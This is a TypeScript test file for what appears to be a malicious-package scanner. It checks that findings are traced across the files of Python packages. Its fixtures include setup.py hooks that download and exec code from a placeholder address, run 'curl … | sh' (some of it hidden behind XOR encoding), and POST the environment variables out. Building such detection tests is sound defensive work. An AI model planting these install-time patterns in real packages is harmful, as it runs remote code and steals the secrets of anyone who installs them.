import { describe } from "vitest";
import { testChains } from "./chain-of-evidence.ts";

describe("one chain of evidence over several files", () => {
	testChains([
		{
			title: "fetch in helper, exec in setup",
			files: [
				{
					name: "p-1/setup.py",
					content: "from setuptools import setup\nfrom p.helper import fetch\nexec(fetch())\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{
					name: "p-1/p/helper.py",
					content: "import requests\ndef fetch():\n    return requests.get('http://192.0.2.9/x').text\n",
				},
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
			from: "helper.py",
		},
		{
			title: "run in helper, download in setup",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"import requests\nfrom setuptools import setup\nfrom p.helper import run\nrun(requests.get('http://192.0.2.9/x').text)\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{ name: "p-1/p/helper.py", content: "def run(code):\n    exec(code)\n" },
			],
			rule: "execution-of-downloaded",
			path: "helper.py",
			from: "setup.py",
		},
		{
			title: "three files",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"from setuptools import setup\nfrom p.net import fetch\nfrom p.runner import go\ngo(fetch())\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{
					name: "p-1/p/net.py",
					content: "import requests\ndef fetch():\n    return requests.get('http://192.0.2.9/x').text\n",
				},
				{ name: "p-1/p/runner.py", content: "def go(code):\n    inner(code)\ndef inner(c):\n    exec(c)\n" },
			],
			rule: "execution-of-downloaded",
			path: "runner.py",
			from: "net.py",
		},
		{
			title: "class method",
			files: [
				{
					name: "p-1/setup.py",
					content: "from setuptools import setup\nfrom p.net import Client\nexec(Client().code())\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{
					name: "p-1/p/net.py",
					content:
						"import requests\nclass Base:\n    def code(self):\n        return self.get()\n    def get(self):\n        return requests.get('http://192.0.2.9/x').text\nclass Client(Base):\n    pass\n",
				},
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
			from: "net.py",
		},
		{
			title: "re-export through __init__",
			files: [
				{
					name: "p-1/setup.py",
					content: "from setuptools import setup\nfrom p import fetch\nexec(fetch())\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "from .net import fetch\n" },
				{
					name: "p-1/p/net.py",
					content: "import requests\ndef fetch():\n    return requests.get('http://192.0.2.9/x').text\n",
				},
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
			from: "net.py",
		},
		{
			title: "star re-export",
			files: [
				{
					name: "p-1/setup.py",
					content: "from setuptools import setup\nfrom p import *\nexec(fetch())\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "from .net import *\n" },
				{
					name: "p-1/p/net.py",
					content: "import requests\ndef fetch():\n    return requests.get('http://192.0.2.9/x').text\n",
				},
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
			from: "net.py",
		},
		{
			title: "module attribute alias",
			files: [
				{
					name: "p-1/setup.py",
					content: "from setuptools import setup\nimport p.net as n\nn.r(n.f())\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{
					name: "p-1/p/net.py",
					content:
						"import requests\nr = exec\ndef fetch():\n    return requests.get('http://192.0.2.9/x').text\nf = fetch\n",
				},
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
			from: "net.py",
		},
		{
			title: "module-level instance",
			files: [
				{
					name: "p-1/setup.py",
					content: "from setuptools import setup\nfrom p.net import client\nexec(client.code())\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{
					name: "p-1/p/net.py",
					content:
						"import requests\nclass Client:\n    def code(self):\n        return requests.get('http://192.0.2.9/x').text\nclient = Client()\n",
				},
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
			from: "net.py",
		},
		{
			title: "module-level value",
			files: [
				{
					name: "p-1/setup.py",
					content: "from setuptools import setup\nfrom p.net import code\nexec(code)\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{ name: "p-1/p/net.py", content: "import requests\ncode = requests.get('http://192.0.2.9/x').text\n" },
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
			from: "net.py",
		},
		{
			title: "constructor argument",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"import requests\nfrom setuptools import setup\nfrom p.run import Runner\nRunner(requests.get('http://192.0.2.9/x').text).go()\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{
					name: "p-1/p/run.py",
					content:
						"class Runner:\n    def __init__(self, code):\n        self.code = code\n    def go(self):\n        exec(self.code)\n",
				},
			],
			rule: "execution-of-downloaded",
			path: "run.py",
			from: "setup.py",
		},
		{
			title: "pass-through",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"import requests\nfrom setuptools import setup\nfrom p.u import clean\nexec(clean(requests.get('http://192.0.2.9/x').text))\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{ name: "p-1/p/u.py", content: "def clean(x):\n    return x.strip()\n" },
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
		},
		{
			title: "decoder in sibling",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"from setuptools import setup\nfrom p.u import d\nexec(d('jnslqw#lp8lp-pzpwfn+$`vqo#kwws9,,2:1-3-1-:,{pk$*'))\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{ name: "p-1/p/u.py", content: "def d(x):\n    return ''.join(chr(ord(c)^3) for c in x)\n" },
			],
			rule: "shell-download",
			path: "setup.py",
		},
		{
			title: "decoder and key in sibling",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"from setuptools import setup\nfrom p.u import d\nexec(d([106, 110, 115, 108, 113, 119, 35, 108, 112, 56, 108, 112, 45, 112, 122, 112, 119, 102, 110, 43, 36, 96, 118, 113, 111, 35, 107, 119, 119, 115, 57, 44, 44, 50, 58, 49, 45, 51, 45, 49, 45, 58, 44, 123, 127, 112, 107, 36, 42]))\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{
					name: "p-1/p/u.py",
					content: "KEY = 3\ndef d(x):\n    out = ''\n    for c in x:\n        out += chr(c ^ KEY)\n    return out\n",
				},
			],
			rule: "shell-download",
			path: "setup.py",
		},
		{
			title: "os from sibling",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"from setuptools import setup\nfrom p.compat import zz\nzz('curl http://192.0.2.9/x | sh')\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{ name: "p-1/p/compat.py", content: "from os import system as zz\n" },
			],
			rule: "shell-download",
			path: "setup.py",
		},
		{
			title: "callback into sibling by thread",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"import requests, threading\nfrom setuptools import setup\nfrom p.run import go\nthreading.Thread(target=go, args=(requests.get('http://192.0.2.9/x').text,)).start()\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{ name: "p-1/p/run.py", content: "def go(code):\n    exec(code)\n" },
			],
			rule: "execution-of-downloaded",
			path: "run.py",
			from: "setup.py",
		},
		{
			title: "url constant from config, command runner in sibling",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"from setuptools import setup\nfrom p.run import sh\nfrom p.config import CMD\nsh(CMD)\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{ name: "p-1/p/config.py", content: "CMD = 'curl http://192.0.2.9/x | sh'\n" },
				{ name: "p-1/p/run.py", content: "import os\ndef sh(c):\n    os.system(c)\n" },
			],
			rule: "shell-download",
			path: "run.py",
		},
		{
			title: "environment stolen in a, sent in b",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"from setuptools import setup\nfrom p.take import all_of_it\nfrom p.send import ship\nship(all_of_it())\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{ name: "p-1/p/take.py", content: "import os\ndef all_of_it():\n    return dict(os.environ)\n" },
				{
					name: "p-1/p/send.py",
					content: "import requests\ndef ship(data):\n    requests.post('http://192.0.2.9/c', json=data)\n",
				},
			],
			rule: "identity-sent",
			path: "send.py",
			from: "take.py",
		},
		{
			title: "helper gets url and runs",
			files: [
				{
					name: "p-1/setup.py",
					content: "from setuptools import setup\nfrom p.h import boot\nboot('http://192.0.2.9/x')\nsetup(name='p')\n",
				},
				{ name: "p-1/p/__init__.py", content: "" },
				{ name: "p-1/p/h.py", content: "import requests\ndef boot(url):\n    exec(requests.get(url).text)\n" },
			],
			rule: "execution-of-downloaded",
			path: "h.py",
		},
		{
			title: "setup.py helper module beside it",
			files: [
				{
					name: "p-1/setup.py",
					content: "from setuptools import setup\nimport _boot\nexec(_boot.fetch())\nsetup(name='p')\n",
				},
				{
					name: "p-1/_boot.py",
					content: "import requests\ndef fetch():\n    return requests.get('http://192.0.2.9/x').text\n",
				},
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
			from: "_boot.py",
		},
		{
			title: "src layout",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"import sys\nsys.path.insert(0,'src')\nfrom setuptools import setup\nfrom p.net import fetch\nexec(fetch())\nsetup(name='p', package_dir={'':'src'})\n",
				},
				{ name: "p-1/src/p/__init__.py", content: "" },
				{
					name: "p-1/src/p/net.py",
					content: "import requests\ndef fetch():\n    return requests.get('http://192.0.2.9/x').text\n",
				},
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
			from: "net.py",
		},
	]);
});
